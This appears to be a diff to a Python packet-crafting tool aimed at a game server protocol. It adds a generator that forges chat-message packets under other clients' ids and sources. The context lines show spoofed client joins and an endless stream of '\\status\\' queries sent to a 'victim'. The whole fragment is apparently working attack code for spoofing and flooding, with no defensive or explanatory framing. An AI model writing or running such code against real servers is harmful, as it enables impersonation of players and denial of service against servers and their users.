@@ -199,6 +199,14 @@ def joins(random, sources, ids=IDS):
                                        reliable(b"\x2a\x20", 5))
 
 
+def lines(sources, texts, ids, number):
+    """A chat line of each source, under the next number of a client that has just joined."""
+    for source, text in zip(sources, texts):
+        for i in ids:
+            line = struct.pack("<BiH", 0x2C, i, len(text)) + text.encode()
+            yield source, datagram(i, reliable(line, number))
+
+
 def queries(victim):
     while True:
         yield victim, b"\\status\\"
